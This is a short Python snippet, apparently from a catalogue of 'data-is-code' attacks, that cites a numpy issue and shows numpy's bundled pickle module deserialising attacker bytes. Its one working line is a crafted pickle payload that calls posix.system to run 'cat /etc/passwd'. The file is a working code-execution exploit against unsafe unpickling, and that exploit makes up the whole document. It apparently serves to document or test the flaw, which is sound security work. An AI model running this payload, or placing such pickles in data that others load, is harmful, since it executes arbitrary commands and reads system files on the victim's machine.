# Source: https://github.com/numpy/numpy/issues/13546 (numpy.ma.core load: numpy's own pickle wrappers)
# Family: data-is-code
# What: numpy.lib.format's pickle module used to unpickle attacker bytes
import numpy as np

fmt = np.lib.format
fmt.pickle.loads(b"cposix\nsystem\n(S'cat /etc/passwd'\ntR.")
